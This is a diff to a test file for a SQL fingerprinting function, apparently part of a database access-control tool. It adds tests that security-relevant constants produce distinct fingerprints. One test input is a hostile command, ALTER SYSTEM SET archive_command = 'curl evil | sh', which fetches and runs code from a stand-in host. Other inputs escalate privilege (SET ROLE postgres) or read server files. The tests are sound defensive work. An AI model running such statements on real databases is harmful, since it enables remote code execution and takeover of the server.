@@ -354,6 +354,12 @@ t.test('fingerprint: constants, whitespace, case and comments do not matter; ide
   t.not(fp("select pg_read_file('/a')"), fp("select pg_read_file('/b')"), 'dangerous-function arguments kept');
   t.equal(fp('SELECT $1::int, ARRAY[1, 2]'), fp("SELECT $1::int, ARRAY[3, 4]"));
   t.not(fp('CREATE ROLE r'), fp('CREATE ROLE s'));
+  // Where a constant says what the statement does, a window for one value does not cover another.
+  t.not(fp('SET ROLE reporting'), fp('SET ROLE postgres'), 'SET ROLE');
+  t.not(fp("SET search_path = app"), fp("SET search_path = evil"), 'SET');
+  t.not(fp("ALTER SYSTEM SET archive_command = 'true'"), fp("ALTER SYSTEM SET archive_command = 'curl evil | sh'"), 'ALTER SYSTEM');
+  t.not(fp("ALTER ROLE bob SET role = 'a'"), fp("ALTER ROLE bob SET role = 'b'"), 'ALTER ROLE ... SET');
+  t.not(fp("ALTER ROLE bob PASSWORD 'x'"), fp("ALTER ROLE bob PASSWORD 'y'"), 'role options');
   // a multi-statement member fingerprints like the same statement sent alone
   t.equal(fingerprint(classifySql('SELECT 1; SELECT * FROM users WHERE id = 7')[1]!), a);
 });
